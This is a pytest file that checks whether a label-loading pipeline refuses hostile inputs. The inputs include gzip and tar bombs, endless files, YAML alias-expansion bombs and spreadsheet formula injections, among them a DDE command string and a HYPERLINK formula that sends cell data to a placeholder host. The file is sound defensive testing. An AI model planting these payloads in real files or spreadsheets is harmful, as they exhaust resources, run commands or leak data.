"""Label files made to do harm: refused in one line, in little memory."""

import resource
import tracemalloc

import pytest

from input_pipeline.files import archives
from input_pipeline.labels import (
  edge_files,
  hierarchy,
  plain_yaml,
  text_lines,
  vocabulary,
)
from input_pipeline.labels.vocabulary import Vocabulary
from input_pipeline.publishers.open_images import files as open_images
from input_pipeline.sources import table
from tests.input_pipeline.files import archives_made
from tests.input_pipeline.labels import hostile_files
from tests.input_pipeline.labels.hostile_files import FILES, MIB, bomb


def peak(function, *args) -> tuple[str, int]:
  """(message of the ValueError, most bytes held meanwhile)."""
  tracemalloc.start()
  try:
    with pytest.raises(ValueError) as raised:
      function(*args)
    return str(raised.value), tracemalloc.get_traced_memory()[1]
  finally:
    tracemalloc.stop()


@pytest.mark.parametrize(
  ('block', 'message'),
  [
    (bytes(1024), ':1: longer than 1,048,576 characters'),
    (b'apple\tfruit\n', 'above 200:1: refused'),
  ],
)
def test_a_gigabyte_of_gzip_is_refused_in_little_memory(
  tmp_path, block, message
):
  path = bomb(tmp_path / 'edges.tsv.gz', block)
  said, most = peak(edge_files.read, path)
  assert said.startswith(path) and message in said
  assert most < 40 * MIB


def test_a_table_of_open_images_without_line_ends_too(tmp_path):
  path = bomb(tmp_path / 'images.csv.gz', bytes(1024))
  said, most = peak(list, open_images._rotations(path))
  assert ':1: longer than 1,048,576 characters' in said
  assert most < 40 * MIB


def test_a_file_that_never_ends_is_refused():
  said, most = peak(text_lines.read, '/dev/zero')
  assert said == '/dev/zero:1: longer than 1,048,576 characters'
  assert most < 40 * MIB


def test_a_compressed_tar_that_is_a_bomb_is_not_unpacked(tmp_path):
  path = bomb(tmp_path / 'images.tar.gz', bytes(1024))
  scratch = tmp_path / 'scratch'
  with pytest.raises(ValueError, match=r'images\.tar\.gz: .*above 200:1'):
    archives.open_files(path, scratch=str(scratch))
  assert not list(scratch.glob('*.tar*[!k]'))


@pytest.mark.parametrize('kind', FILES)
def test_each_is_refused_with_its_line(tmp_path, kind):
  hostile_files.check(kind, tmp_path)


@pytest.mark.nightly
def test_a_chain_of_a_million_nodes_is_one_message(tmp_path):
  path = tmp_path / 'chain.tsv'
  path.write_text('\n'.join(f'{i}\t{i - 1}' for i in range(1, 10**6)))
  message = r'chain\.tsv:\d+: .*allowed: '
  with pytest.raises(ValueError, match=message) as raised:
    hierarchy.load(str(path), Vocabulary(('5', '6')), unlisted='traverse')
  assert len(str(raised.value)) < 500


FORMULA = '=HYPERLINK("http://x/?"&A1)'


@pytest.mark.parametrize(
  'name', ['=1+2', '=-2+3', '@SUM(1)', "+cmd|' /C x'!A0", FORMULA]
)
def test_formulas_of_spreadsheets_are_refused_with_their_line(tmp_path, name):
  (tmp_path / 't.tsv').write_text(f'path\tlabels\nx.jpg\t{name}\n')
  (tmp_path / 'v.txt').write_text(f'a\n{name}\n')
  with pytest.raises(ValueError, match=r't\.tsv:2: the name .* is a formula'):
    table.Source(path=str(tmp_path / 't.tsv'))
  with pytest.raises(ValueError, match=r'v\.txt:2: the name .* is a formula'):
    vocabulary.load(str(tmp_path / 'v.txt'))


def test_signs_are_names(tmp_path):
  names = ('=', '-', '+', '@', '=>', '-1', '@home', '+ (plus)', '- none')
  (tmp_path / 'v.txt').write_text('\n'.join(names))
  assert vocabulary.load(str(tmp_path / 'v.txt')).names == names


@pytest.mark.nightly
def test_a_tar_of_a_million_members_opens_in_little_memory(tmp_path):
  """A member costs its name and some tens of bytes, whatever it is called."""
  path = tmp_path / 'many.tar'
  archives_made.write_million(path)
  before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
  files = archives.open_files(str(path))
  grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
  assert len(files) == 10**6
  assert grown < 400 << 10  # KiB


LAUGHS = 'a0: &a0 [x, x, x, x, x, x, x, x, x]\n' + ''.join(
  f'a{i}: &a{i} [{", ".join([f"*a{i - 1}"] * 9)}]\n' for i in range(1, 9)
)
YAML = {
  'names': (f'{LAUGHS}names: [*a8]\n', 'f:2: the alias *a0: write out'),
  'root': ('- &a [x]\n- *a\n', 'f:2: the alias *a: write out'),
  'merge': ('a: &a {x: 1}\nb:\n  <<: *a\n', 'f:3: the alias *a'),
  'itself': ('&a [*a]', 'f:1: the alias *a'),
  'depth': ('[' * 2000, 'f:1: nested more than 50 deep'),
  'lists': ('- ' * 2000, 'f:1: nested more than 50 deep'),
  'size': ('#' * 2**21, 'f: more than 1,048,576 bytes'),
  'base 60': (f'nc: {"1:" * 1000}1\n', 'f:1: a number of 2,001 characters'),
  'a tag': (f'\nnc: !!int " {"1_" * 1000}1"', 'f:2: a number of 2,002 char'),
  'no number': ('nc: !!int ""', 'f: not YAML: '),
  'no truth': ('nc: !!bool x', 'f: not YAML: '),
  'no time': ('nc: !!timestamp x', 'f: not YAML: '),
  'no key': ('? [a]\n: b\n', 'f:1: not YAML: found unhashable key'),
}


@pytest.mark.parametrize('kind', YAML)
def test_yaml_that_stands_for_more_than_it_is(kind):
  text, message = YAML[kind]
  said, most = peak(plain_yaml.parse, text.encode(), 'f')
  assert said.startswith(message) and '\n' not in said
  assert most < 10 * MIB


def test_yaml_of_many_values(monkeypatch):
  monkeypatch.setattr(plain_yaml, 'MAX_NODES', 500)
  said, _ = peak(plain_yaml.parse, b'names: [' + b'a,' * 500 + b']', 'f')
  assert said == 'f:1: more than 500 values'
  text = 'path: &here data\nnames:\n  0: person\n  1: traffic light\n'
  assert plain_yaml.parse(text.encode(), 'f') == {
    'path': 'data', 'names': {0: 'person', 1: 'traffic light'},
  }  # fmt: skip
